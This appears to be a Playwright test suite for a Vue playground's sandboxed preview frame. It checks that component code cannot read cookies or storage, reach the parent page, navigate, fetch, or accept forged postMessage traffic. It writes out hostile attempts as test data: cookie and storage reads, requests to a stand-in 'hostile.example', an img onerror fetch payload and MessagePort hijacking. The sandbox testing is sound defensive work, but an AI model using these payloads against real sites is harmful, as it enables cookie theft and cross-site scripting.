@@ -1,0 +1,251 @@
+import type { BrowserContext } from '@playwright/test'
+import { editorOf, expect, frameOf, resultOf, sharedHash, test, untilHeard, write } from '../../playgroundApp.ts'
+
+const hostile = 'http://hostile.example'
+const hostileCode = { type: 'view-site:code', source: '<template>HOSTILE</template>', locale: 'en-US' }
+
+// What the browser says of each attempt that it stops.
+test.use({ tolerated: /./ })
+
+/** What the code of a component gets when it reaches out of its frame: each attempt's outcome, by name. */
+const attempts = {
+  cookies: 'document.cookie',
+  'writing cookies': "(document.cookie = 'a=1')",
+  'local storage': "localStorage.getItem('secret')",
+  'session storage': "sessionStorage.getItem('secret')",
+  'a database':
+    "await new Promise((done, fail) => { const open = indexedDB.open('a'); open.onsuccess = done; open.onerror = () => fail(open.error) })",
+  'a cache': "await caches.open('a')",
+  'a worker for the site': "await navigator.serviceWorker.register('/sw.js')",
+  'the document around': 'parent.document.body',
+  'the storage around': 'parent.localStorage',
+  'the address around': 'parent.location.href',
+  'the element around': 'frameElement.ownerDocument',
+  'leading the page away': `(top.location.href = '${hostile}/top')`,
+  'replacing the page': `top.location.replace('${hostile}/top')`,
+  'a window': `open('${hostile}/window').closed`,
+  'a fetch': `await fetch('${hostile}/fetch')`,
+  'a fetch of the own site': "await fetch('/index.html')",
+  'a request': `await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = () => fail(new Error('refused')); r.open('GET', '${hostile}/xhr'); r.send() })`,
+  'a socket': `await new Promise((done, fail) => { const s = new WebSocket('${hostile.replace('http', 'ws')}/socket'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
+  'a stream': `await new Promise((done, fail) => { const s = new EventSource('${hostile}/stream'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
+  'a picture': `await new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(new Error('refused')); i.src = '${hostile}/picture.png' })`,
+  'a script': `await import('${hostile}/script.js')`,
+  'code from text': "eval('1 + 1')",
+  'a form': `await new Promise((done, fail) => { document.addEventListener('securitypolicyviolation', () => fail(new Error('refused'))); const f = document.createElement('form'); f.action = '${hostile}/form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(() => fail(new Error('nothing came')), 500) })`,
+  'the camera': 'await navigator.mediaDevices.getUserMedia({ video: true })',
+  'the clipboard': 'await navigator.clipboard.readText()',
+}
+
+test('[PLUS-03] code in the frame reads no cookie, storage or document around it, and cannot navigate, open or fetch', async ({
+  page,
+  context,
+  play,
+  playground,
+}) => {
+  const reached = await watchHostile(context)
+  await context.addCookies([{ name: 'secret', value: 'of the page', url: playground }])
+  await play()
+  await page.evaluate(() => localStorage.setItem('secret', 'of the page'))
+  const lines = Object.entries(attempts).map(
+    ([name, code]) =>
+      `  try { const got = ${code}; console.log('${name}: reached ' + String(got)) } catch (error) { console.log('${name}: stopped') }`,
+  )
+  await write(
+    page,
+    `<script setup>\nasync function attack() {\n${lines.join('\n')}\n  alert('hello')\n  console.log('end of attempts')\n}\n</script>\n<template><button @click="attack">attack</button></template>`,
+  )
+  const dialogs: string[] = []
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  const windows = context.pages().length
+  await frameOf(page).getByRole('button', { name: 'attack' }).click()
+  const log = page.getByRole('log')
+  await expect(log).toContainText('end of attempts', { timeout: 20_000 })
+  const said = await log.locator('[data-level=log]').allInnerTexts()
+  expect(said.slice(0, -1)).toEqual(Object.keys(attempts).map((name) => `${name}: stopped`))
+  expect(reached).toEqual([])
+  expect(dialogs).toEqual([])
+  expect(context.pages()).toHaveLength(windows)
+  expect(page.url()).toBe(`${playground}/`)
+})
+
+test('[PLUS-03] a frame that goes to another address never gets there, and is put back', async ({ page, context, play }) => {
+  const reached = await watchHostile(context)
+  await play()
+  await write(
+    page,
+    `<script setup>\nconst go = () => (location.href = '${hostile}/frame?code')\n</script>\n<template><button @click="go">go</button></template>`,
+  )
+  await frameOf(page).getByRole('button', { name: 'go' }).click()
+  await expect(resultOf(page)).toHaveAttribute('data-phase', 'left')
+  await write(page, '<template><p>here again</p></template>')
+  await expect(frameOf(page).getByText('here again')).toBeVisible()
+  expect(reached).toEqual([])
+})
+
+test('[PLUS-03] links and forms of a component stay in the frame', async ({ page, context, play }) => {
+  const reached = await watchHostile(context)
+  await play({ source: `<template><a href="${hostile}/link">link</a> <a href="${hostile}/tab" target="_blank">tab</a></template>` })
+  await frameOf(page).getByRole('link', { name: 'link' }).click()
+  await frameOf(page).getByRole('link', { name: 'tab' }).click()
+  await expect(frameOf(page).getByRole('link', { name: 'link' })).toBeVisible()
+  await expect(resultOf(page)).toHaveAttribute('data-phase', 'standing')
+  expect(context.pages()).toHaveLength(1)
+  expect(reached).toEqual([])
+})
+
+test('[PLUS-03] code of a hostile page that opened the playground is ignored', async ({ page, context, playground }) => {
+  await watchHostile(context)
+  await page.goto(`${hostile}/page`)
+  const opened = page.waitForEvent('popup')
+  await page.evaluate((to) => Object.assign(window, { target: open(to) }), playground)
+  const popup = await opened
+  await expect(editorOf(popup)).toBeVisible()
+  await untilHeard(popup, () =>
+    page.evaluate((code) => {
+      const { target } = window as Window & { target?: Window }
+      for (const message of [code, { ...code, type: 'view-site:frame-ready' }, 'end']) target?.postMessage(message, '*')
+    }, hostileCode),
+  )
+  await expect(frameOf(popup).getByRole('button')).toBeVisible()
+  await expect(editorOf(popup)).toContainText('view-ui-plus')
+  await expect(popup.getByText('HOSTILE')).toHaveCount(0)
+  await expect(frameOf(popup).getByText('HOSTILE')).toHaveCount(0)
+})
+
+test('[PLUS-03] a page that may send code is heard once, and only in the right shape', async ({ page, context, playground }) => {
+  const neighbour = 'http://127.0.0.1:9009'
+  await context.route(`${neighbour}/**`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>docs</title>' }))
+  await page.goto(`${neighbour}/docs`)
+  const opened = page.waitForEvent('popup')
+  await page.evaluate((to) => Object.assign(window, { target: open(to) }), playground)
+  const popup = await opened
+  await expect(popup.getByRole('button', { name: '运行' })).toBeVisible()
+  const right = { ...hostileCode, source: '<template><p>right</p></template>' }
+  await untilHeard(popup, () =>
+    page.evaluate(
+      ([code, good]) => {
+        const { target } = window as Window & { target?: Window }
+        const wrong = [null, 'text', [code], { ...code, type: 'other' }, { ...code, source: 1 }, { ...code, locale: 'xx' }]
+        for (const message of [...wrong, good, code, 'end']) target?.postMessage(message, '*')
+      },
+      [hostileCode, right] as const,
+    ),
+  )
+  await expect(frameOf(popup).getByText('right')).toBeVisible()
+  await expect(popup.locator('html')).toHaveAttribute('lang', 'en-US')
+  await expect(editorOf(popup)).toHaveText('<template><p>right</p></template>')
+})
+
+test('[PLUS-03] messages of the hostile code in the frame are ignored by the page around it', async ({ page, play }) => {
+  await play()
+  await write(
+    page,
+    `<script setup>
+function send() {
+  const channel = new MessageChannel()
+  for (const message of [${JSON.stringify(hostileCode)}, { type: 'view-site:frame-ready' }, { type: 'log', run: 1, level: 'log', text: 'FORGED' }, { type: 'mounted', run: 1 }]) {
+    parent.postMessage(message, '*', [])
+  }
+  parent.postMessage({ type: 'view-site:frame-connect' }, '*', [channel.port2])
+  parent.postMessage('end', '*')
+}
+</script>
+<template><button @click="send">send</button></template>`,
+  )
+  const button = frameOf(page).getByRole('button', { name: 'send' })
+  await expect(button).toBeVisible()
+  await untilHeard(page, () => button.click())
+  await expect(editorOf(page)).toContainText('function send')
+  await expect(page.getByRole('log')).not.toContainText('FORGED')
+  await expect(button, 'it still is the same frame').toBeVisible()
+})
+
+test('[PLUS-03] code that gets hold of the port can forge what is shown of it, and nothing more', async ({ page, play }) => {
+  await play()
+  await write(
+    page,
+    `<script setup>
+const seen = []
+const real = MessagePort.prototype.postMessage
+MessagePort.prototype.postMessage = function (...all) { seen.push(this); return real.apply(this, all) }
+console.log('said')
+console.log('caught', seen.length)
+</script>
+<template><p>stands</p></template>`,
+  )
+  await expect(page.getByRole('log')).toContainText('caught 0')
+  await expect(resultOf(page)).toHaveAttribute('data-phase', 'standing')
+})
+
+test('[PLUS-03] no other site can put the playground, or its frame, into a page', async ({ page, context, playground }) => {
+  await watchHostile(context)
+  for (const path of ['/', '/frame/index.html']) {
+    await page.goto(`${hostile}/page`)
+    const said = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
+    await page.evaluate((src) => document.body.append(Object.assign(document.createElement('iframe'), { src })), playground + path)
+    await said
+  }
+})
+
+test('[PLUS-03] the frame takes no port from a hostile page, even where a host forgot its headers', async ({
+  page,
+  context,
+  playground,
+}) => {
+  await watchHostile(context)
+  await context.route(`${playground}/frame/index.html`, async (route) => {
+    const response = await route.fetch()
+    const headers = { ...response.headers() }
+    delete headers['content-security-policy']
+    await route.fulfill({ response, headers })
+  })
+  await page.goto(`${hostile}/page`)
+  await page.evaluate(
+    (src) =>
+      new Promise((done) => {
+        const frame = Object.assign(document.createElement('iframe'), { src, onload: done })
+        frame.sandbox.add('allow-scripts')
+        document.body.append(frame)
+      }),
+    `${playground}/frame/index.html`,
+  )
+  const inner = page.frames().find((frame) => frame.url().startsWith(playground))
+  if (!inner) throw new Error('The frame did not load.')
+  const heard = inner.evaluate(
+    () =>
+      new Promise<void>((done) => {
+        addEventListener('message', ({ data }) => data === 'end' && done())
+      }),
+  )
+  await page.evaluate(() => {
+    const channel = new MessageChannel()
+    const js = "export default { render: () => 'HOSTILE' }"
+    channel.port1.postMessage({ type: 'run', run: 1, js, css: '', locale: 'en-US' })
+    frames[0]?.postMessage({ type: 'view-site:frame-connect' }, '*', [channel.port2])
+    frames[0]?.postMessage('end', '*')
+  })
+  await heard
+  await expect(page.frameLocator('iframe').locator('#app')).toBeEmpty()
+})
+
+test('[PLUS-03] a shared link runs in the frame like everything else', async ({ page, context, play, playground }) => {
+  const reached = await watchHostile(context)
+  await play({ source: `<template><img src="x" onerror="fetch('${hostile}/inline')"><p>shown</p></template>` })
+  await expect(frameOf(page).getByText('shown')).toBeVisible()
+  expect(reached).toEqual([])
+  expect(page.url()).toContain(`${playground}/${sharedHash({ source: '', locale: 'zh-CN' }).slice(0, 7)}`)
+})
+
+/** Answers at the hostile site's address; the list fills with what arrived there, its own page left out. */
+async function watchHostile(context: BrowserContext): Promise<string[]> {
+  const reached: string[] = []
+  await context.route(/^https?:\/\/hostile\.example\//, (route, request) => {
+    if (!request.url().endsWith('/page')) reached.push(request.url())
+    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>hostile</title><body>' })
+  })
+  return reached
+}
